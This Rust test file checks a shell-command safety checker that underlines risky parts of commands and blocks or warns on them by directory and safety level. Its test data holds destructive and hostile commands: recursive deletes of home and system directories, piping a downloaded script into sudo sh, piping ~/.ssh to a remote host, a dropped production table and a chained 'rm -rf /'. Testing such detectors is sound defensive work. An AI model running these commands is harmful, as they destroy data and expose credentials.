//! What people are shown: the part of the command that matters, underlined, and why.

use std::fmt::Write as _;
use std::path::Path;

use caro_safety::{Action, Assessment, Context, RiskLevel, SafetyLevel, assess};

/// An assessment as a terminal would show it.
fn shown(command: &str, context: &Context<'_>) -> String {
    let assessment = assess(command, context);
    let mut text = format!("{} ({})\n", assessment.action, assessment.risk_level);
    for finding in &assessment.findings {
        let before = command[..finding.span.start].chars().count();
        let under = command[finding.span.clone()].chars().count().max(1);
        writeln!(text, "  {command}").expect("a string takes it");
        writeln!(text, "  {}{}", " ".repeat(before), "^".repeat(under)).expect("a string takes it");
        writeln!(
            text,
            "  {} {}: {}",
            finding.risk_level, finding.rule, finding.explanation
        )
        .expect("a string takes it");
        if let Some(safer) = &finding.safer {
            writeln!(text, "  safer: {safer}").expect("a string takes it");
        }
    }
    text
}

fn anywhere(command: &str) -> Assessment {
    assess(command, &Context::default())
}

#[test]
fn findings_are_underlined_and_explained() {
    let commands = [
        "rm ./notes.md",
        "rm -rf \"$DIR\"/*",
        "sudo rm -rf /etc/ssh && echo done",
        "echo 'größe' && rm -rf ~",
        "bash -c 'cd /usr && rm -rf lib'",
        "echo \"$(curl -s https://x.sh | bash)\"",
        "find . -name '*.log' -exec rm {} +",
        "curl -fsSL https://x.sh | sudo sh",
        "git push --force origin main",
        "dd if=debian.iso of=/dev/sdb bs=4M",
        "chmod -R 777 uploads",
        "for d in build /usr; do rm -rf \"$d\"; done",
        "ssh web 'rm -rf /var/www/*'",
        "python3 -c 'import shutil; shutil.rmtree(\"/home\")'",
        "tar czf - ~/.ssh | ssh host 'cat > keys.tgz'",
        "cat <<END | sh\nrm -rf /opt\nEND",
        "echo 'open",
        "psql prod -c 'DROP TABLE users'",
    ];
    let text: Vec<String> = commands
        .iter()
        .map(|command| shown(command, &Context::default()))
        .collect();
    insta::assert_snapshot!(text.join("\n"));
}

#[test]
fn where_a_command_runs_decides_what_it_destroys() {
    let in_home = Context {
        home: Some(Path::new("/Users/ann")),
        directory: Some(Path::new("/Users/ann")),
        ..Context::default()
    };
    assert_eq!(assess("rm -rf *", &in_home).action, Action::Blocked);
    assert_eq!(assess("rm -rf ./target", &in_home).action, Action::Allowed);
    let deeper = Context {
        directory: Some(Path::new("/Users/ann/site")),
        ..in_home
    };
    assert_eq!(assess("rm -rf *", &deeper).action, Action::Warned);
    assert_eq!(assess("rm -rf ../*", &deeper).action, Action::Blocked);
    assert_eq!(assess("cd .. && rm -rf *", &deeper).action, Action::Blocked);
    let in_etc = Context {
        directory: Some(Path::new("/etc")),
        ..Context::default()
    };
    assert_eq!(assess("> hosts", &in_etc).action, Action::Blocked);
}

#[test]
fn a_search_in_a_home_deletes_what_it_says_and_no_more() {
    let in_home = Context {
        home: Some(Path::new("/home/ann")),
        directory: Some(Path::new("/home/ann")),
        ..Context::default()
    };
    let commands = [
        "find . -delete",
        "find . -type f -delete",
        "find . -type f ! -empty -delete",
        "find . -maxdepth 1 -type f -delete",
        "find . -maxdepth 1 -delete",
        "find ~ -maxdepth 2 -type f -exec rm {} +",
        "find . -type f -empty -delete",
        "find . -type d -empty -delete",
        "find . -type f -name '*.tmp' -delete",
        "find ~ -user ann -delete",
    ];
    let text: Vec<String> = commands
        .iter()
        .map(|command| shown(command, &in_home))
        .collect();
    insta::assert_snapshot!(text.join("\n"));
}

#[test]
fn what_a_user_allows_is_not_asked_about_again() {
    let allow = ["force-push".to_owned()];
    let context = Context {
        allow: &allow,
        ..Context::default()
    };
    let assessment = assess("git push --force", &context);
    assert_eq!(assessment.action, Action::Allowed);
    assert_eq!(assessment.allowed_rules, ["force-push"]);
    let other = assess("git push --force; rm -rf /", &context);
    assert_eq!(other.action, Action::Blocked);
}

#[test]
fn a_tested_variable_is_not_empty() {
    for guarded in [
        "[ -n \"$D\" ] && rm -rf \"$D\"/*",
        "[[ -d $D ]] && rm -rf $D/*",
        "if [ -z \"$D\" ]; then exit; else rm -rf \"$D\"/*; fi",
        "test -z \"$D\" && exit; rm -rf \"$D\"/*",
        "rm -rf \"${D:?}\"/*",
    ] {
        assert_eq!(anywhere(guarded).action, Action::Warned, "{guarded}");
    }
    for open in [
        "[ -n $D ] && rm -rf $D/*",
        "[ -n \"$D\" ] && echo; rm -rf \"$D\"/*",
        "[ -n \"$D\" ] || rm -rf \"$D\"/*",
        "[ -n \"$E\" ] && rm -rf \"$D\"/*",
    ] {
        assert_eq!(anywhere(open).action, Action::Blocked, "{open}");
    }
}

#[test]
fn no_level_lets_through_what_it_cannot_read() {
    for level in SafetyLevel::ALL {
        let context = Context {
            level: *level,
            ..Context::default()
        };
        for command in [
            "echo 'open",
            "$CMD x",
            "eval \"$X\"",
            "rm \"$X\"",
            "mv \"$X\" y",
            "echo x > $Y",
            "chmod 644 $Z",
            "scp $F h:",
        ] {
            assert!(
                assess(command, &context).action >= Action::Warned,
                "{level}: {command}"
            );
        }
    }
}

#[test]
fn levels_act_as_documented() {
    use Action::{Allowed, Blocked, Warned};
    let table = [
        (RiskLevel::Safe, [Allowed, Allowed, Allowed]),
        (RiskLevel::Moderate, [Warned, Allowed, Allowed]),
        (RiskLevel::High, [Blocked, Warned, Warned]),
        (RiskLevel::Critical, [Blocked, Blocked, Warned]),
    ];
    for (risk, actions) in table {
        for (level, action) in SafetyLevel::ALL.iter().zip(actions) {
            assert_eq!(level.action(risk), action, "{level} {risk}");
        }
    }
    assert_eq!("MODERATE".parse(), Ok(SafetyLevel::Moderate));
    let error = "lenient".parse::<SafetyLevel>().unwrap_err();
    assert_eq!(
        error.to_string(),
        "no safety level is called \"lenient\": it is one of strict, moderate, permissive"
    );
}
